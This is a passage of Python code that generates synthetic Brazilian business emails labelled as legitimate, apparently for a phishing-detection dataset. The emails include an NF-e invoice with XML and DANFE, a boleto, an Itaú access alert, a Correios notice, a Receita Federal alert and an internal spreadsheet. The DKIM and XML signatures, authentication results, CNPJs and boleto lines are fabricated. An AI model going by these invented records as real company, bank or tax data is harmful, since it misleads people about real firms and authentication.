    total = 0.0
    for i, (code, desc, qty, unit) in enumerate(items, start=1):
        v = round(qty * unit, 2)
        total += v
        det += (f'<det nItem="{i}"><prod><cProd>{code}</cProd><cEAN>SEM GTIN</cEAN><xProd>{desc}</xProd><NCM>40121200</NCM>'
                f'<CFOP>5102</CFOP><uCom>UN</uCom><qCom>{qty:.4f}</qCom><vUnCom>{unit:.10f}</vUnCom><vProd>{v:.2f}</vProd>'
                f'<cEANTrib>SEM GTIN</cEANTrib><uTrib>UN</uTrib><qTrib>{qty:.4f}</qTrib><vUnTrib>{unit:.10f}</vUnTrib><indTot>1</indTot></prod>'
                f'<imposto><ICMS><ICMS00><orig>0</orig><CST>00</CST><modBC>3</modBC><vBC>{v:.2f}</vBC><pICMS>18.00</pICMS>'
                f'<vICMS>{v * 0.18:.2f}</vICMS></ICMS00></ICMS><PIS><PISAliq><CST>01</CST><vBC>{v:.2f}</vBC><pPIS>1.65</pPIS>'
                f'<vPIS>{v * 0.0165:.2f}</vPIS></PISAliq></PIS><COFINS><COFINSAliq><CST>01</CST><vBC>{v:.2f}</vBC><pCOFINS>7.60</pCOFINS>'
                f'<vCOFINS>{v * 0.076:.2f}</vCOFINS></COFINSAliq></COFINS></imposto></det>')
    xml = (f'<?xml version="1.0" encoding="UTF-8"?><nfeProc xmlns="http://www.portalfiscal.inf.br/nfe" versao="4.00">'
           f'<NFe xmlns="http://www.portalfiscal.inf.br/nfe"><infNFe Id="NFe{chave}" versao="4.00"><ide><cUF>35</cUF>'
           f'<cNF>{chave[35:43]}</cNF><natOp>VENDA DE MERCADORIA</natOp><mod>55</mod><serie>1</serie><nNF>{numero}</nNF>'
           f'<dhEmi>{dh}</dhEmi><dhSaiEnt>{dh}</dhSaiEnt><tpNF>1</tpNF><idDest>1</idDest><cMunFG>3550308</cMunFG><tpImp>1</tpImp>'
           f'<tpEmis>1</tpEmis><cDV>{chave[-1]}</cDV><tpAmb>1</tpAmb><finNFe>1</finNFe><indFinal>0</indFinal><indPres>9</indPres>'
           f'<procEmi>0</procEmi><verProc>ERP 5.12.3</verProc></ide>'
           f'<emit><CNPJ>{emit["cnpj"]}</CNPJ><xNome>{emit["nome"]}</xNome><enderEmit><xLgr>{emit["lgr"]}</xLgr><nro>{emit["nro"]}</nro>'
           f'<xBairro>{emit["bairro"]}</xBairro><cMun>3550308</cMun><xMun>SAO PAULO</xMun><UF>SP</UF><CEP>{emit["cep"]}</CEP>'
           f'<cPais>1058</cPais><xPais>BRASIL</xPais></enderEmit><IE>{emit["ie"]}</IE><CRT>3</CRT></emit>'
           f'<dest><CNPJ>{dest["cnpj"]}</CNPJ><xNome>{dest["nome"]}</xNome><enderDest><xLgr>{dest["lgr"]}</xLgr><nro>{dest["nro"]}</nro>'
           f'<xBairro>{dest["bairro"]}</xBairro><cMun>3518800</cMun><xMun>GUARULHOS</xMun><UF>SP</UF><CEP>{dest["cep"]}</CEP>'
           f'<cPais>1058</cPais><xPais>BRASIL</xPais></enderDest><indIEDest>1</indIEDest><IE>{dest["ie"]}</IE><email>fiscal@transvale.com.br</email></dest>'
           f'{det}<total><ICMSTot><vBC>{total:.2f}</vBC><vICMS>{total * 0.18:.2f}</vICMS><vProd>{total:.2f}</vProd><vNF>{total:.2f}</vNF></ICMSTot></total>'
           f'<transp><modFrete>0</modFrete></transp><pag><detPag><indPag>1</indPag><tPag>15</tPag><vPag>{total:.2f}</vPag></detPag></pag>'
           f'<infAdic><infCpl>PEDIDO CLIENTE 4500-2231. BOLETO 28 DDL.</infCpl></infAdic></infNFe>'
           f'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>'
           f'<SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/><Reference URI="#NFe{chave}"><DigestValue>{b64s(chave + "dv", 27)}=</DigestValue></Reference></SignedInfo>'
           f'<SignatureValue>{b64s(chave + "sv", 342)}==</SignatureValue></Signature></NFe>'
           f'<protNFe versao="4.00"><infProt><tpAmb>1</tpAmb><verAplic>SP_NFE_PL009_V4</verAplic><chNFe>{chave}</chNFe>'
           f'<dhRecbto>{dh}</dhRecbto><nProt>{prot}</nProt><digVal>{b64s(chave + "dv", 27)}=</digVal><cStat>100</cStat>'
           f'<xMotivo>Autorizado o uso da NF-e</xMotivo></infProt></protNFe></nfeProc>')
    return xml.encode()


def br_legit_nfe_rodopneus() -> None:
    slug = "br-nfe-xml-danfe-fornecedor"
    t = T(2024, 10, 8, 14, 12, 40, -3)
    dom = "rodopneus.com.br"
    ses = f"0103{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="54.240.27.17", host="a27-17.smtp-out.sa-east-1.amazonses.com",
                        mailfrom=f"<{ses}@mail.rodopneus.com.br>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="BR")
    chave = "35241012448951000107550010000549981308842176"
    orig = [dkim_sig(dom, "nfe2022", slug, t, "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID", c="relaxed/simple"),
            dkim_sig("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", slug + "ses", t,
                     "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID:Feedback-ID", c="relaxed/simple"),
            f"Subject: {ew('NF-e Nº 54998 - RODOPNEUS COMERCIO DE PNEUS LTDA')}",
            f"From: {addr('Rodopneus - Faturamento', f'nfe@{dom}', quote=False)}",
            "To: fiscal@transvale.com.br",
            "Cc: juliana.ferraz@transvale.com.br",
            f"Date: {rfc(utc(t))}",
            "Mime-Version: 1.0",
            f"Message-ID: <{ses}@sa-east-1.amazonses.com>",
            f"Feedback-ID: ::1.sa-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2024.10.08-54.240.27.17"]
    plain = f"""Prezado(a) cliente TRANSVALE LOGISTICA LTDA,

Segue em anexo o arquivo XML e o DANFE referente à Nota Fiscal Eletrônica abaixo:

Número: 54998
Série: 1
Emissão: 08/10/2024
Valor total: R$ 16.825,00
Chave de acesso: {' '.join(chave[i:i + 4] for i in range(0, 44, 4))}

A autenticidade desta NF-e pode ser verificada no Portal Nacional da Nota Fiscal Eletrônica:
https://www.nfe.fazenda.gov.br/portal/consultaRecaptcha.aspx?tipoConteudo=7PhJ+gAVw2g=

Boleto com vencimento em 28 dias será enviado em e-mail separado pelo nosso financeiro.

Atenciosamente,
Rodopneus Comércio de Pneus Ltda
Faturamento - (11) 3965-4400
Esta mensagem foi gerada automaticamente pelo sistema de emissão de NF-e.
"""
    emit = dict(cnpj="12448951000107", nome="RODOPNEUS COMERCIO DE PNEUS LTDA", lgr="AV OTAVIANO ALVES DE LIMA", nro="4410",
                bairro="VILA ARCADIA", cep="02701000", ie="114882736110")
    dest = dict(cnpj="09447123000163", nome="TRANSVALE LOGISTICA LTDA", lgr="RODOVIA PRESIDENTE DUTRA KM 225", nro="S/N",
                bairro="CUMBICA", cep="07220000", ie="336118204117")
    xml = nfe_xml(chave, "54998", emit, dest,
                  [("REC-29580", "RECAPAGEM PNEU 295/80R22.5 BANDA BDR-HG", 25, 498.0),
                   ("REC-27580", "RECAPAGEM PNEU 275/80R22.5 BANDA BDY", 10, 437.5)],
                  "2024-10-08T14:02:11-03:00", "135241738104472")
    danfe = pdf_doc(["DANFE - DOCUMENTO AUXILIAR DA NOTA FISCAL ELETRONICA", "0 - ENTRADA  1 - SAIDA: 1", "",
                     "RODOPNEUS COMERCIO DE PNEUS LTDA  CNPJ 12.448.951/0001-07", "NF-e No 000.054.998  SERIE 1",
                     "CHAVE DE ACESSO", " ".join(chave[i:i + 4] for i in range(0, 44, 4)),
                     "PROTOCOLO DE AUTORIZACAO DE USO: 135241738104472 08/10/2024 14:02:19", "",
                     "DESTINATARIO: TRANSVALE LOGISTICA LTDA  CNPJ 09.447.123/0001-63", "",
                     "RECAPAGEM PNEU 295/80R22.5 BANDA BDR-HG   25 UN   498,00   12.450,00",
                     "RECAPAGEM PNEU 275/80R22.5 BANDA BDY      10 UN   437,50    4.375,00", "",
                     "VALOR TOTAL DA NOTA: R$ 16.825,00"],
                    "DANFE 54998", "FastReport", "20241008140215-03'00'")
    body = Multi("mixed", boundary(slug, "ses"), [
        text(plain, "plain", "quoted-printable", "UTF-8"),
        Leaf("text/xml", xml, "base64", f'; name="{chave}-procNFe.xml"', f'attachment; filename="{chave}-procNFe.xml"'),
        attachment("application/pdf", f"DANFE_{chave}.pdf", danfe),
    ])
    add("bulk", "legit", slug,
        "Genuine NF-e from the real tyre supplier (rodopneus.com.br via SES, aligned SPF/DKIM/DMARC) with the authorised procNFe XML and the DANFE PDF, pointing only to the official NF-e portal.",
        hdr(top, orig, tail), body)


def br_legit_boleto_rastreamento() -> None:
    slug = "br-boleto-mensalidade-rastreador"
    t = T(2024, 2, 5, 7, 3, 11, -3)
    dom = "sigmarastreamento.com.br"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="149.72.212.80", host="o3.ptr1733.em.sigmarastreamento.com.br",
                        mailfrom=f"<bounces+27712311-b44e-financeiro=transvale.com.br@em.{dom}>", from_dom=dom,
                        spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="US")
    orig = [dkim_sig(dom, "s1", slug, t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            dkim_sig("sendgrid.info", "smtpapi", slug + "sg", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            f"Date: {rfc(utc(t))}",
            f"From: {addr('Sigma Rastreamento - Financeiro', f'financeiro@{dom}', quote=False)}",
            "Mime-Version: 1.0",
            f"Message-ID: <{b64url(slug, 22)}@geopod-ismtpd-14>",
            f"Subject: {ew('Boleto disponível - Fatura 02/2024 - TRANSVALE LOGISTICA LTDA')}",
            "Reply-To: financeiro@sigmarastreamento.com.br",
            "To: financeiro@transvale.com.br",
            f"X-SG-EID: {b64s(slug + 'eid', 110)}",
            f"X-Entity-ID: u001.{b64s(slug + 'ent', 22)}=="]
    click = lambda k: f"https://url7712.{dom}/ls/click?upn=u001.{b64url(slug + k, 120)}"  # noqa: E731
    linha = "34191.09008 64312.781290 81452.470009 2 96510000897340"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f6f8">
<table width="100%" bgcolor="#f4f6f8"><tr><td align="center" style="padding:24px 0">
<table width="600" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#333;border-radius:4px">
<tr><td style="padding:22px 30px;border-bottom:3px solid #0d6efd"><b style="font-size:20px;color:#0d6efd">Sigma</b> <span style="color:#777">Rastreamento Veicular</span></td></tr>
<tr><td style="padding:26px 30px;font-size:14px;line-height:21px">
<p>Olá, <b>TRANSVALE LOGISTICA LTDA</b>,</p>
<p>A fatura referente à mensalidade de <b>fevereiro/2024</b> do contrato 4471 (rastreamento e telemetria de 58 veículos) já está disponível.</p>
<table width="100%" style="font-size:14px;border:1px solid #e5e5e5"><tr><td style="padding:8px">Valor</td><td style="padding:8px"><b>R$ 8.973,40</b></td></tr>
<tr style="background:#fafafa"><td style="padding:8px">Vencimento</td><td style="padding:8px">15/02/2024</td></tr>
<tr><td style="padding:8px">Linha digitável</td><td style="padding:8px;font-family:monospace">{linha}</td></tr></table>
<p>O boleto em PDF segue anexo. Também é possível consultar faturas e notas fiscais de serviço na Área do Cliente:</p>
<p><a href="{click('portal')}" style="color:#0d6efd">Acessar Área do Cliente</a></p>
<p style="font-size:12px;color:#777">Boleto emitido pelo Banco Itaú (341) em nome de SIGMA RASTREAMENTO VEICULAR LTDA, CNPJ 21.774.318/0001-52. Confira sempre o beneficiário antes de pagar. Dúvidas: (11) 4003-7712.</p>
</td></tr></table></td></tr></table>
<img src="https://url7712.{dom}/wf/open?upn=u001.{b64url(slug + 'open', 90)}" alt="" width="1" height="1" border="0"></body></html>
"""
    plain = (f"Olá, TRANSVALE LOGISTICA LTDA,\n\nA fatura de fevereiro/2024 do contrato 4471 está disponível.\nValor: R$ 8.973,40\n"
             f"Vencimento: 15/02/2024\nLinha digitável: {linha}\n\nÁrea do Cliente: {click('portal')}\n")
    boleto = pdf_doc(["Banco Itau S.A.  | 341-7 |  " + linha, "", "Beneficiario: SIGMA RASTREAMENTO VEICULAR LTDA  CNPJ 21.774.318/0001-52",
                      "Pagador: TRANSVALE LOGISTICA LTDA  CNPJ 09.447.123/0001-63", "Vencimento: 15/02/2024",
                      "Valor do documento: R$ 8.973,40", "Nosso numero: 109/64312781-2", "",
                      "Instrucoes: Apos o vencimento cobrar multa de 2% e juros de 1% ao mes.",
                      "Referente: mensalidade 02/2024 - contrato 4471"],
                     "Boleto 02/2024", "JasperReports Library version 6.20.0", "20240205065912-03'00'")
    body = Multi("mixed", boundary(slug, "sendgrid"), [
        Multi("alternative", boundary(slug + "a", "sendgrid"), [text(plain), text(html, "html")]),
        attachment("application/pdf", "Boleto_Sigma_022024_Contrato4471.pdf", boleto),
    ])
    add("bulk", "legit", slug,
        "Monthly boleto from the known vehicle-tracking supplier via SendGrid with its own aligned domain: PDF boleto, linha digitável and a tracked link to the supplier's customer portal.",
        hdr(top, orig, tail), body)


def br_legit_itau_novo_acesso() -> None:
    slug = "br-itau-empresas-novo-acesso-alerta"
    t = T(2025, 5, 6, 8, 41, 55, -3)
    dom = "comunica.itau.com.br"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="13.111.49.12", host="mta12.comunica.itau.com.br",
                        mailfrom=f"<bounce-{num(slug, 100, 999)}_HTML-{num(slug + 'b', 10000000, 99999999)}-{num(slug + 'c', 100000, 999999)}-{num(slug + 'd', 1000000, 9999999)}-{num(slug + 'e', 10, 99)}@bounce.{dom}>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="US")
    orig = [dkim_sig(dom, "200608", slug, t, "From:To:Subject:Date:MIME-Version:Reply-To:List-Unsubscribe:Message-ID:Content-Type"),
            dkim_sig("s11.y.mc.salesforce.com", "fbldkim11", slug + "sf", t, "From:To:Subject:Date:MIME-Version:Reply-To:List-Unsubscribe:Message-ID:Content-Type"),
            f"From: {addr('Itaú Empresas', f'itauempresas@{dom}', quote=False)}",
            "To: <patricia.albuquerque@transvale.com.br>",
            f"Subject: {ew('Novo acesso ao app Itaú Empresas identificado')}",
            f"Date: {rfc(t)}",
            "MIME-Version: 1.0",
            "Reply-To: \"Itaú Empresas\" <reply-fe8b1c7574600d7d7d-1234_HTML-88122741-1000212-0@comunica.itau.com.br>".replace("\"Itaú Empresas\"", "=?utf-8?B?SXRhw7ogRW1wcmVzYXM=?="),
            f"List-Unsubscribe: <https://click.{dom}/subscription_center.aspx?jwt={b64url(slug + 'jwt', 120)}>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            f"x-CSA-Complaints: csa-complaints@eco.de",
            f"x-job: 1000212_{num(slug + 'job', 1000000, 9999999)}",
            f"Message-ID: <{guid(slug)}@ind1s11mta{num(slug, 1000, 9999)}.xt.local>",
            "X-SFMC-Stack: 11"]
    ck = lambda k: f"https://click.{dom}/?qs={hx(slug + k, 160)}"  # noqa: E731
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#efe9e5">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#efe9e5"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#3c3c3c">
<tr><td style="background:#ec7000;padding:18px 28px"><img src="https://image.{dom}/lib/fe8b1c7574600d7d7d/m/1/itau-logo.png" width="44" height="44" alt="Itaú"></td></tr>
<tr><td style="padding:28px 32px;font-size:15px;line-height:23px">
<p>Olá, Patrícia</p>
<p>Identificamos um novo acesso ao aplicativo <b>Itaú Empresas</b> com o seu código de operador:</p>
<table width="100%" style="font-size:14px;background:#f8f6f4"><tr><td style="padding:12px 16px">Data e hora: 06/05/2025 às 08:39<br>Dispositivo: iPhone 15<br>Local aproximado: São Paulo - SP</td></tr></table>
<p><b>Foi você?</b> Então não precisa fazer nada.</p>
<p><b>Não reconhece o acesso?</b> Bloqueie seu acesso pelo internet banking ou ligue para a Central de Atendimento Itaú Empresas: <b>4004 4828</b> (capitais e regiões metropolitanas) ou <b>0800 970 4828</b> (demais localidades).</p>
<p style="font-size:13px;color:#767676">O Itaú nunca envia links pedindo senha, token ou código de segurança, e nunca pede para você instalar ou sincronizar o iToken por e-mail.</p>
</td></tr>
<tr><td style="padding:18px 32px;font-size:11px;color:#959595;border-top:1px solid #eee">
<a href="{ck('seg')}" style="color:#959595">Dicas de segurança</a> | <a href="{ck('priv')}" style="color:#959595">Política de privacidade</a> | <a href="{ck('unsub')}" style="color:#959595">Descadastrar</a><br>
Itaú Unibanco S.A. - CNPJ 60.701.190/0001-04 - Praça Alfredo Egydio de Souza Aranha, 100 - São Paulo - SP.</td></tr>
</table></td></tr></table>
<img src="https://click.{dom}/open.aspx?ffcb10-{hx(slug + 'o', 16)}-{hx(slug + 'o2', 40)}" width="1" height="1" alt=""></body></html>
"""
    plain = ("Olá, Patrícia\n\nIdentificamos um novo acesso ao aplicativo Itaú Empresas com o seu código de operador em 06/05/2025 às 08:39 (iPhone 15, São Paulo - SP).\n\n"
             "Foi você? Então não precisa fazer nada.\nNão reconhece o acesso? Ligue 4004 4828 (capitais) ou 0800 970 4828 (demais localidades).\n\n"
             "O Itaú nunca envia links pedindo senha, token ou código de segurança.\n")
    body = alt(slug, plain, html, "sfmc")
    add("bulk", "legit", slug,
        "Real Itaú Empresas new-device security alert sent through Salesforce Marketing Cloud with aligned DKIM, click-tracking links and only phone numbers as the action.",
        hdr(top, orig, tail), body)


def br_legit_correios_rastreio_loja() -> None:
    slug = "br-pedido-enviado-correios-rastreio"
    t = T(2025, 4, 15, 17, 26, 3, -3)
    dom = "epicenter.com.br"
    ses = f"0103{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="54.240.27.91", host="a27-91.smtp-out.sa-east-1.amazonses.com",
                        mailfrom=f"<{ses}@envio.{dom}>", from_dom=dom, spf="pass", dkim="pass", dmarc="pass",
                        compauth="pass", reason="100", ctry="BR", bcl=3)
    orig = [dkim_sig(dom, "loja", slug, t, "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID:List-Unsubscribe", c="relaxed/simple"),
            dkim_sig("amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug", slug + "ses", t,
                     "Subject:From:To:Date:Mime-Version:Content-Type:Message-ID:List-Unsubscribe:Feedback-ID", c="relaxed/simple"),
            f"Subject: {ew('Seu pedido #10482 foi enviado! Código de rastreio: QB512347893BR')}",
            f"From: {addr('EPI Center', f'pedidos@{dom}', quote=False)}",
            "To: compras@transvale.com.br",
            f"Date: {rfc(utc(t))}",
            "Mime-Version: 1.0",
            f"Message-ID: <{ses}@sa-east-1.amazonses.com>",
            f"List-Unsubscribe: <https://www.{dom}/newsletter/descadastrar?e={b64url(slug + 'e', 24)}>",
            f"Feedback-ID: ::1.sa-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2025.04.15-54.240.27.91"]
    html = f"""<!doctype html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f3f3f3">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif;color:#333">
<tr><td style="padding:20px 28px;background:#1d3557;color:#fff;font-size:20px;font-weight:bold">EPI Center <span style="font-size:12px;font-weight:normal;color:#a8dadc">Equipamentos de Proteção Individual</span></td></tr>
<tr><td style="padding:26px 28px;font-size:15px;line-height:22px">
<p>Olá, Anderson!</p>
<p>Seu pedido <b>#10482</b> foi postado nos Correios (SEDEX) e já está a caminho.</p>
<p>Código de rastreio: <b style="font-size:17px">QB512347893BR</b></p>
<p>Acompanhe a entrega diretamente no site dos Correios:</p>
<p><a href="https://rastreamento.correios.com.br/app/index.php" style="background:#1d3557;color:#fff;padding:10px 22px;text-decoration:none;border-radius:4px">Rastrear nos Correios</a></p>
<table width="100%" style="font-size:13px;border-top:1px solid #eee;margin-top:14px">
<tr><td style="padding:6px 0">40x Bota de segurança PVC cano longo - nº 41/42</td><td align="right">R$ 2.316,00</td></tr>
<tr><td style="padding:6px 0">60x Luva nitrílica verde - tam. G</td><td align="right">R$ 718,20</td></tr>
<tr><td style="padding:6px 0">Frete SEDEX</td><td align="right">R$ 89,70</td></tr>
<tr><td style="padding:6px 0"><b>Total</b></td><td align="right"><b>R$ 3.123,90</b></td></tr></table>
<p style="font-size:13px;color:#777">A nota fiscal foi enviada ao e-mail cadastrado. Dúvidas? Responda este e-mail ou fale com a gente pelo (19) 3242-1180.</p>
<p style="font-size:13px"><a href="https://www.{dom}/conta/pedidos/10482" style="color:#1d3557">Ver meu pedido</a></p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#999;background:#fafafa">EPI Center Comércio de EPIs Ltda - Campinas/SP · <a href="https://www.{dom}/newsletter/descadastrar?e={b64url(slug + 'e', 24)}" style="color:#999">descadastrar</a></td></tr>
</table></body></html>
"""
    plain = ("Olá, Anderson!\n\nSeu pedido #10482 foi postado nos Correios (SEDEX).\nCódigo de rastreio: QB512347893BR\n"
             "Rastreie em https://rastreamento.correios.com.br/app/index.php\n\nVer meu pedido: https://www." + dom + "/conta/pedidos/10482\n")
    body = alt(slug, plain, html, "ses")
    add("bulk", "legit", slug,
        "Web shop's 'pedido enviado' notice with a Correios tracking code and a link to the real rastreamento.correios.com.br site; store domain aligned via SES, no payment asked.",
        hdr(top, orig, tail), body)


def br_legit_receita_caixa_postal() -> None:
    slug = "br-receita-dte-caixa-postal-aviso"
    t = T(2025, 8, 12, 6, 15, 20, -3)
    dom = "rfb.gov.br"
    top, tail = rx_m365(BR_M365, slug, t=t, ip="161.148.164.31", host="correio3.serpro.gov.br", mailfrom=f"<naoresponda@{dom}>",
                        from_dom=dom, spf="pass", dkim="pass", dmarc="pass", compauth="pass", reason="100", ctry="BR")
    hops = [f"Received: from sdte-app02.rfb.serpro (unknown [10.31.8.42])\n\tby correio3.serpro.gov.br (Postfix) with ESMTP id 4c1qWn3R8Tz9vDl\n"
            f"\tfor <fiscal@transvale.com.br>; Tue, 12 Aug 2025 06:15:19 -0300 (-03)"]
    orig = [dkim_sig(dom, "serpro2023", slug, t, "from:to:subject:date:message-id:mime-version:content-type"),
            f"Date: {rfc(t)}",
            f"From: Receita Federal <naoresponda@{dom}>",
            "To: fiscal@transvale.com.br",
            f"Message-ID: <{num(slug, 100000000, 999999999)}.{num(slug + 'b', 1000, 9999)}.{epoch(t)}{num(slug + 'c', 100, 999)}@sdte-app02>",
            f"Subject: {ew('Aviso de nova mensagem na Caixa Postal do e-CAC', 'ISO-8859-1')}",
            "MIME-Version: 1.0"]
    plain = """Prezado(a) Contribuinte,

Este é um aviso automático do Domicílio Tributário Eletrônico (DTE).

Existe nova mensagem disponível na Caixa Postal do e-CAC para o contribuinte:

CNPJ: 09.447.123/0001-63
Nome empresarial: TRANSVALE LOGISTICA LTDA
Data de envio: 12/08/2025

Para ler a mensagem, acesse o Centro Virtual de Atendimento (e-CAC) no sítio da Receita Federal na internet, utilizando sua conta gov.br nível prata ou ouro, certificado digital ou procuração eletrônica.

Lembramos que a Receita Federal não envia mensagens eletrônicas com links ou arquivos anexos e não solicita senhas ou dados pessoais por e-mail. O conteúdo das comunicações oficiais está disponível somente na Caixa Postal do e-CAC.

Você está recebendo este aviso porque cadastrou este endereço eletrônico para receber alertas do DTE. Não responda esta mensagem.

Receita Federal do Brasil
"""
    body = text(plain, "plain", "quoted-printable", "ISO-8859-1")
    add("bulk", "legit", slug,
        "Genuine Receita Federal DTE alert (rfb.gov.br via SERPRO, all auth pass): plain text, no link or attachment, tells the user to read the message in e-CAC.",
        hdr(top, hops, orig, tail), body)


def br_legit_internal_planilha_fretes() -> None:
    slug = "br-interno-planilha-fretes-marco"
    t = T(2024, 4, 2, 11, 48, 9, -3)
    src = "CPVP152MB3988.LAMP152.PROD.OUTLOOK.COM"
    top, tail = rx_m365_internal(BR_M365, slug, t=t, sender_mbx=src, sender_mbx6="2603:10d6:103:1b2::14",
                                 sender="<anderson.lima@transvale.com.br>")
    orig = ["From: Anderson Lima <anderson.lima@transvale.com.br>",
            f"To: {addr('Patrícia Albuquerque', 'patricia.albuquerque@transvale.com.br', 'iso-8859-1', 'Q')}",
            "CC: Juliana Ferraz <juliana.ferraz@transvale.com.br>",
            f"Subject: {ew('Planilha de fretes - fechamento março/2024', 'iso-8859-1')}",
            "Thread-Topic: Planilha de fretes - fechamento marco/2024",
            f"Thread-Index: {thread_index(slug)}",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: {outlook_mid(slug, src)}",
            "Accept-Language: pt-BR, en-US",
            "Content-Language: pt-BR",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "msip_labels:",
            "MIME-Version: 1.0"]
    plain = """Patrícia, bom dia.

Segue a planilha de fretes de março já conciliada com os CT-es emitidos. Ficaram de fora as duas viagens da Bandeirante para Curitiba (dia 28 e 29), que só vão ser faturadas em abril porque o canhoto voltou depois do fechamento.

Destaques:
- Receita de frete: R$ 2.184.730,00 (+6,2% vs fevereiro)
- Custo de pedágio subiu por causa das rotas novas pela Fernão Dias
- 3 CT-es cancelados/substituídos (linhas em amarelo)

Juliana, as faturas de pneus da Rodopneus estão na aba de custos, conferir se bate com o contas a pagar.

Qualquer dúvida me chama no Teams.

Abs,
Anderson Lima
Coordenador de Operações | TransVale Logística
(11) 2472-8800 ramal 214
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><style>p{margin-top:0;margin-bottom:0}</style></head>'
            '<body dir="ltr"><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">'
            + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    rows = [["Data", "CT-e", "Cliente", "Origem", "Destino", "Peso (kg)", "Valor frete (R$)", "Pedágio (R$)"],
            ["01/03/2024", "35240309447123000163570010000821141", "BANDEIRANTE CONSTRUTORA", "GUARULHOS/SP", "CAMPINAS/SP", 18400, 6420.0, 187.4],
            ["04/03/2024", "35240309447123000163570010000821187", "MOVEIS IMPERIAL", "GUARULHOS/SP", "BELO HORIZONTE/MG", 12100, 11840.0, 402.8],
            ["05/03/2024", "35240309447123000163570010000821203", "ATACADAO NORTE", "JUNDIAI/SP", "RIBEIRAO PRETO/SP", 26800, 9175.5, 251.0],
            ["07/03/2024", "35240309447123000163570010000821266", "BANDEIRANTE CONSTRUTORA", "GUARULHOS/SP", "SOROCABA/SP", 21000, 5890.0, 143.2],
            ["TOTAL", "", "", "", "", "", 2184730.0, 61822.9]]
    sheet = xlsx("Fretes mar-24", rows, "Anderson Lima", "2024-04-02T14:20:00Z")
    body = Multi("mixed", boundary(slug, "outlook_mixed"), [
        Multi("alternative", boundary(slug, "outlook"), [text(plain, "plain", "quoted-printable", "iso-8859-1"),
                                                         text(html, "html", "quoted-printable", "iso-8859-1")]),
        attachment(XLSX_CT, "Fretes_Marco_2024_conciliado.xlsx", sheet),
    ])
    add("clean", "legit", slug,
        "Internal Exchange Online mail (AuthAs Internal, mapi) from the operations coordinator to finance with the month's freight spreadsheet attached.",
        hdr(top, orig, tail), body)


def cfdi_xml(serie: str, folio: str, fecha: str, emisor: tuple[str, str, str], receptor: tuple[str, str, str],
             conceptos: list[tuple[str, str, float, float, str]], uuid: str, forma: str = "99", metodo: str = "PPD") -> bytes:
    sub = round(sum(q * u for _, _, q, u, _ in conceptos), 2)
    iva = round(sub * 0.16, 2)
    total = round(sub + iva, 2)
    cs = ""
    for clave, desc, q, u, unidad in conceptos:
        imp = round(q * u, 2)
        cs += (f'<cfdi:Concepto ClaveProdServ="{clave}" Cantidad="{q:g}" ClaveUnidad="{unidad}" Unidad="Pieza" Descripcion="{desc}" '
               f'ValorUnitario="{u:.2f}" Importe="{imp:.2f}" ObjetoImp="02"><cfdi:Impuestos><cfdi:Traslados>'
               f'<cfdi:Traslado Base="{imp:.2f}" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.160000" Importe="{imp * 0.16:.2f}"/>'
               f'</cfdi:Traslados></cfdi:Impuestos></cfdi:Concepto>')
    xml = (f'<?xml version="1.0" encoding="UTF-8"?>\n<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" '
           f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:tfd="http://www.sat.gob.mx/TimbreFiscalDigital" '
           f'xsi:schemaLocation="http://www.sat.gob.mx/cfd/4 http://www.sat.gob.mx/sitio_internet/cfd/4/cfdv40.xsd" Version="4.0" '
           f'Serie="{serie}" Folio="{folio}" Fecha="{fecha}" Sello="{b64s(uuid + "sello", 344)}" FormaPago="{forma}" '
           f'NoCertificado="00001000000509846663" Certificado="{b64s(uuid + "cert", 600)}" SubTotal="{sub:.2f}" Moneda="MXN" '
           f'Total="{total:.2f}" TipoDeComprobante="I" Exportacion="01" MetodoPago="{metodo}" LugarExpedicion="64000">'
           f'<cfdi:Emisor Rfc="{emisor[0]}" Nombre="{emisor[1]}" RegimenFiscal="{emisor[2]}"/>'
